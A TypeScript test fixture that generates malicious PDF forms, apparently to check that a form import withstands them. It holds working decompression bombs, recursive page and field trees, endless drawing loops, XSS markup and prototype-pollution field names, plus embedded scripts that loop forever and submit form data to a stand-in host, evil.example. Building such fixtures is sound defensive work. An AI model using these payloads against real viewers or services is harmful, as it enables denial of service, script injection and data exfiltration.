import { deflateSync } from "node:zlib";

/** Sets a mark on the page, should it ever run there. */
export const MARK = "hacked";
const MARKUP = `<img src=x onerror=${MARK}=1>"'><script>${MARK}=1</script>`;

/** The field that every file has, if it opens. */
export const HONEST_FIELD = "Full name";

type Stream = { keys: string; bytes: Uint8Array };
/** Parts of a form of one page; `objects` are numbered from 20. */
type Parts = {
  catalog?: string;
  page?: string;
  content?: Stream;
  /** Widgets beside the honest one, each as the inside of its dictionary. */
  fields?: string[];
  objects?: (string | Stream)[];
  pages?: string;
  trailer?: string;
  /** Where the cross-reference begins; "own" is itself. */
  previous?: "own";
};

const FIRST_OBJECT = 20;
const FIRST_FIELD = 6;

/** Writes a PDF whose parts stand where its cross-reference says. */
function writeForm({ catalog = "", page = "", content, fields = [], objects = [], pages, trailer = "", previous }: Parts): Buffer {
  const widgets = [`/T(name)/TU(${HONEST_FIELD})/FT/Tx/Rect[72 700 372 720]`, ...fields].map(
    (inside) => `<</Type/Annot/Subtype/Widget/F 4/P 3 0 R/DA(/Helv 9 Tf 0 g)${inside}>>`,
  );
  const names = widgets.map((_, index) => `${FIRST_FIELD + index} 0 R`).join(" ");
  const bodies = new Map<number, string | Stream>([
    [1, `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[${names}]/DA(/Helv 9 Tf 0 g)/DR<</Font<</Helv 5 0 R>>>>>>${catalog}>>`],
    [2, pages ?? "<</Type/Pages/Count 1/Kids[3 0 R]>>"],
    [
      3,
      `<</Type/Page/Parent 2 0 R${page.includes("/MediaBox") ? "" : "/MediaBox[0 0 612 792]"}${page.includes("/Resources") ? "" : "/Resources<</Font<</Helv 5 0 R>>>>"}/Contents 4 0 R/Annots[${names}]${page}>>`,
    ],
    [4, content ?? { keys: "", bytes: Buffer.from("BT /Helv 12 Tf 72 740 Td (Application) Tj ET") }],
    [5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"],
    ...widgets.map((widget, index): [number, string] => [FIRST_FIELD + index, widget]),
    ...objects.map((object, index): [number, string | Stream] => [FIRST_OBJECT + index, object]),
  ]);
  const chunks: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  let length = 9;
  const add = (chunk: Buffer) => {
    chunks.push(chunk);
    length += chunk.length;
  };
  const offsets = new Map<number, number>();
  for (const [number, body] of bodies) {
    offsets.set(number, length);
    add(Buffer.from(`${number} 0 obj\n`));
    if (typeof body === "string") add(Buffer.from(body, "latin1"));
    else {
      add(Buffer.from(`<<${body.keys}/Length ${body.bytes.length}>>stream\n`));
      add(Buffer.from(body.bytes));
      add(Buffer.from("\nendstream"));
    }
    add(Buffer.from("\nendobj\n"));
  }
  const start = length;
  const table = [...offsets].map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const size = Math.max(...offsets.keys()) + 1;
  add(
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \n${table}trailer<</Root 1 0 R/Size ${size}${previous ? `/Prev ${start}` : ""}${trailer}>>\n`,
    ),
  );
  add(Buffer.from(`startxref\n${start}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

let zeros: Uint8Array | undefined;

/** 140 MB of nothing in a few hundred bytes. Packing takes a second, so it happens once. */
function packedZeros(): Uint8Array {
  zeros ??= deflateSync(deflateSync(Buffer.alloc(140_000_000), { level: 9 }), { level: 9 });
  return zeros;
}

const TWICE = "/Filter[/FlateDecode/FlateDecode]";

/** Each draws the next so many times: a few kilobytes that would take months to draw. */
function nestedDrawings(depth: number, times: number): Stream[] {
  return Array.from({ length: depth }, (_, index) => ({
    keys: `/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X ${FIRST_OBJECT + Math.min(depth - 1, index + 1)} 0 R>>>>`,
    bytes: Buffer.from(index === depth - 1 ? "0 0 9 9 re f" : "/X Do ".repeat(times)),
  }));
}

const script = (code: string) => `<</S/JavaScript/JS(${code})>>`;
const LOOP = script("while \\(true\\) {}");
const BOX = "/Rect[72 600 372 620]";

/** Files that mean harm, each with an honest field, by their kind. `catalogue`: the import takes them, with all that is in them. */
export const HOSTILE_FILES: Record<string, { make: () => Buffer; catalogue?: boolean }> = {
  "a page that unpacks to gigabytes": { make: () => writeForm({ content: { keys: TWICE, bytes: packedZeros() } }) },
  "a cross-reference that leads to itself": { make: () => writeForm({ previous: "own" }), catalogue: true },
  "a tree of pages without end": {
    make: () =>
      writeForm({
        pages: "<</Type/Pages/Count 1000000000/Kids[3 0 R 20 0 R 2 0 R]>>",
        objects: Array.from({ length: 5_000 }, (_, index) => `<</Type/Pages/Parent 2 0 R/Kids[${FIRST_OBJECT + index + 1} 0 R]>>`),
      }),
  },
  "ten thousand pages": {
    make: () =>
      writeForm({
        pages: `<</Type/Pages/Count 10001/Kids[3 0 R ${Array.from({ length: 10_000 }, (_, index) => `${FIRST_OBJECT + index} 0 R`).join(" ")}]>>`,
        objects: Array.from({ length: 10_000 }, () => "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"),
      }),
  },
  "scripts that never end, and that reach for the page": {
    make: () =>
      writeForm({
        catalog: `/OpenAction${LOOP}/Names<</JavaScript<</Names[(a)${script(`${MARK} = 1; app.launchURL\\('https://evil.example/'\\); while \\(true\\) {}`)}]>>>>`,
        page: `/AA<</O${LOOP}>>`,
        fields: [
          `/T(loop)/TU(Looping)/FT/Tx${BOX}/AA<</K${LOOP}/V${LOOP}/F${LOOP}/C${LOOP}/Fo${LOOP}/Bl${LOOP}>>`,
          `/T(out)/TU(Sending)/FT/Tx/Rect[72 560 372 580]/AA<</E<</S/URI/URI(javascript:${MARK}=1)>>/K${script(`this.submitForm\\('https://evil.example/'\\); globalThis.constructor.constructor\\('${MARK}=1'\\)\\(\\)`)}>>`,
        ],
      }),
    catalogue: true,
  },
  "a choice of 100,000 answers": {
    make: () =>
      writeForm({
        fields: [
          `/T(choice)/TU(Choice)/FT/Ch/Ff 131072${BOX}/Opt[${Array.from({ length: 100_000 }, (_, index) => `(option ${index})`).join("")}]`,
        ],
      }),
    catalogue: true,
  },
  "a page as wide as a country": { make: () => writeForm({ page: "/MediaBox[0 0 100000000000 792]" }) },
  "a page of no size": { make: () => writeForm({ page: "/MediaBox[0 0 0 0]/UserUnit 1e30" }) },
  "a page taller than any screen": { make: () => writeForm({ page: "/MediaBox[0 0 612 1000000]" }) },
  "a picture of four billion dots": {
    make: () =>
      writeForm({
        content: { keys: "", bytes: Buffer.from("q 600 0 0 700 0 0 cm /X Do Q") },
        page: "/Resources<</XObject<</X 20 0 R>>>>",
        objects: [
          {
            keys: `/Type/XObject/Subtype/Image/Width 65000/Height 65000/BitsPerComponent 8/ColorSpace/DeviceRGB${TWICE}`,
            bytes: packedZeros(),
          },
        ],
      }),
  },
  "drawings in drawings without end": {
    make: () =>
      writeForm({
        content: { keys: "", bytes: Buffer.from("/X Do") },
        page: "/Resources<</XObject<</X 20 0 R>>>>",
        objects: nestedDrawings(12, 40),
      }),
  },
  "a pattern of endless tiles": {
    make: () =>
      writeForm({
        content: { keys: "", bytes: Buffer.from("/Pattern cs /P scn 0 0 612 792 re f") },
        page: "/Resources<</Pattern<</P 20 0 R>>>>",
        objects: [
          {
            keys: "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.000001/YStep 0.000001/Resources<<>>",
            bytes: Buffer.from("0 0 1 1 re f"),
          },
        ],
      }),
  },
  "names that are markup": {
    make: () =>
      writeForm({
        trailer: `/Info<</Title(${MARKUP})/Author(${MARKUP})>>`,
        fields: [
          `/T(${MARKUP})/TU(${MARKUP})/FT/Tx${BOX}/V(${MARKUP})/MaxLen 2000000000/Ff 16777216`,
          `/T(constructor)/TU(${MARKUP})/FT/Ch/Rect[72 560 372 580]/Ff 131072/Opt[[(${MARKUP})(${MARKUP})](__proto__)]`,
          "/T(__proto__)/TU(Prototype)/FT/Tx/Rect[72 520 372 540]",
          `/T(box)/TU(Box)/FT/Btn/Rect[72 480 84 492]/AP<</N<</${"A".repeat(20_000)} 4 0 R/Off 4 0 R>>>>`,
        ],
      }),
    catalogue: true,
  },
  "fields that are their own children": {
    make: () =>
      writeForm({
        fields: [`/T(round)/TU(Round)/FT/Tx${BOX}/Parent 20 0 R`],
        objects: ["<</T(parent)/Parent 20 0 R/Kids[20 0 R 7 0 R 20 0 R]>>"],
      }),
    catalogue: true,
  },
};
